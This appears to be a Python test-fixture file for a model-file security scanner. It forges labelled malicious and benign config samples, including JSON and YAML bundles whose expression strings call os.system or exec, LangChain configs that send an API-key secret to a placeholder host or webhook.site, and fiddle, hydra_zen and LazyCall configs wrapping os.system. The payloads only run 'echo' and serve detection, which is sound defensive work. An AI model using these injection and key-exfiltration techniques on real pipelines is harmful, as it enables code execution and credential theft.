"""Configurations whose texts are expressions, and clients and graphs that hold more than they show: what an eleventh corpus found.

Commands are `echo` at most; addresses are of RFC 5737 and lead nowhere.
"""

from __future__ import annotations

import json
from typing import Any

from stannary.testing.forges import forge
from stannary.testing.forges._protobuf_writer import message
from stannary.testing.forges.configs import file
from stannary.testing.forges.onnx import external, model, tensor
from stannary.testing.forges.onnx import node as onnx_node
from stannary.testing.forges.tensorflow import node, saved_model

__all__: list[str] = []

_URL = "http://203.0.113.9/v1"
_BUNDLE: dict[str, Any] = {
    "imports": ["$import glob", "$import os"],
    "device": "$torch.device('cuda:0' if torch.cuda.is_available() else 'cpu')",
    "data": "$list(sorted(glob.glob(@dataset_dir + '/*.nii.gz')))",
    "network": "$@network_def.to(@device)",
    "initialize": ["$setattr(torch.backends.cudnn, 'benchmark', True)", "$monai.utils.set_determinism(seed=123)"],
    "output": "$os.path.join(@bundle_root, 'eval')",
    "schema": "$ref",
    "price": "$1.00 (net)",
    "run": ["$@evaluator.run()"],
}
for _name, _document, _bad in (
    ("imported", {**_BUNDLE, "run": ["$os.system('echo stannary')"]}, True),
    ("dunder", {"spatial_dims": "$__import__('subprocess').getoutput('echo stannary')"}, True),
    ("required", {"_target_": "scripts.Trainer", "_requires_": "$__import__('os').popen('echo stannary')"}, True),
    ("comprehension", {"run": "$[__import__(m).system('echo stannary') for m in ['os']]"}, True),
    ("compiled", {"initialize": ["$exec(compile('import os; os.system(0)', 'x', 'exec'))"]}, True),
    ("referred", {"cmd": "echo", "run": "$__import__('os').system(@cmd)"}, True),
    ("joined", {"imports": ["$import os as o"], "x": "$getattr(o, 'sys' + 'tem')('echo stannary')"}, True),
    ("plain", _BUNDLE, False),
):
    file(f"json.expression_{_name}", "inference.json", json.dumps(_document), "JSON with code tags", malicious=_bad)
for _name, _text, _bad in (
    ("list", "imports:\n- $import os\nrun:\n- $os.system('echo stannary')\n", True),
    ("quoted", "network: '$exec(\"import os; os.system(0)\")'\n", True),
    ("folded", "run: >-\n  $__import__('os')\n  .system('echo stannary')\n", True),
    (
        "plain",
        "imports:\n- $import os\nout: $os.path.join(@bundle_root, 'x')\nhome: $HOME/models\nrun:\n- $@trainer.run()\n",
        False,
    ),
):
    file(f"yaml.expression_{_name}", "train.yaml", _text, "YAML with code tags", malicious=_bad)


def _client(name: str, **kwargs: Any) -> dict[str, Any]:  # noqa: ANN401 - any JSON value
    return {"lc": 1, "type": "constructor", "id": ["langchain", "chat_models", name, "Chat"], "kwargs": kwargs}


_KEY = {"lc": 1, "type": "secret", "id": ["OPENAI_API_KEY"]}
for _name, _document, _bad in (
    ("sent", _client("openai", openai_api_key=_KEY, openai_api_base=_URL), True),
    ("sent_to_paste", _client("bedrock", endpoint_url="https://webhook.site/x", aws_secret_access_key=_KEY), True),
    ("sent_within", {"chain": [{"llm": _client("anthropic", base_url=_URL, api_key=_KEY)}]}, True),
    ("to_provider", _client("openai", openai_api_key=_KEY, openai_api_base="https://api.openai.com/v1"), False),
    ("to_own", _client("openai", openai_api_key=_KEY, base_url="http://localhost:8000/v1"), False),
    ("unkept", _client("openai", openai_api_key="x", base_url="http://gpu.internal:8000/v1"), False),
):
    file(f"json.langchain_secret_{_name}", "chain.json", json.dumps(_document), "JSON with code tags", malicious=_bad)
_NODE = {"id": 1, "type": "PythonNode", "widgets_values": ["import os\nos.system('echo stannary')\n", 7]}
for _name, _document, _bad in (
    ("fiddle_reference", {"root": {"type": {"type": "pyref", "module": "os", "name": "system"}, "arguments": {}}}, True),
    ("fiddle_plain", {"root": {"type": {"type": "pyref", "module": "torch.nn", "name": "Linear"}, "arguments": {}}}, False),
    ("comfy_source", {"nodes": [_NODE], "links": [], "version": 0.4}, True),
    (
        "comfy_plain",
        {"nodes": [{**_NODE, "widgets_values": ["a poster that explains import taxes,\nfrom os and home", 512]}], "links": []},
        False,
    ),
):
    file(f"json.{_name}", "workflow.json", json.dumps(_document), "JSON with code tags", malicious=_bad)
for _name, _text, _bad in (
    ("lazy_call", "from detectron2.config import LazyCall as L\nimport subprocess\nmodel = L(subprocess.check_output)(args=['sh', '-c', 'echo stannary'])\n", True),
    ("hydra_zen", "from hydra_zen import builds\nimport os\nConf = builds(os.system, 'echo stannary')\n", True),
    ("fiddle", "import fiddle, os\nbase = fiddle.Config(os.system, 'echo stannary')\n", True),
    ("lazy_call_plain", "from detectron2.config import LazyCall as L\nfrom torch import nn\nmodel = L(nn.Linear)(in_features=2, out_features=1)\n", False),
):  # fmt: skip
    file(f"python.kept_{_name}", "config.py", _text, "Python source", malicious=_bad)


@forge("tensorflow.engine_within", filename="saved_model.pb", family="TensorFlow", malicious=None)
def _() -> bytes:
    segment = message(5, message(1, "serialized_segment"), message(2, message(2, b"ftrt" + bytes(60))))
    return saved_model(node("engine", "TRTEngineOp", "x", attributes=segment))


@forge("onnx.data_in_parts", filename="onnx_model", family="ONNX", malicious=False)
def _() -> dict[str, bytes]:
    """Return a model whose writer kept some tensors in numbered files and some in files of their own."""
    places = ("model.onnx_data_1", "onnx__MatMul_7", "encoder.layer.0.output.dense.bias")
    tensors = b"".join(message(5, tensor(f"w{i}", raw=None, extra=external(place))) for i, place in enumerate(places))
    return {"model.onnx": model(onnx_node("Relu"), tensors), **dict.fromkeys(places, b"\xa7>\x91\xbf" * 2)}
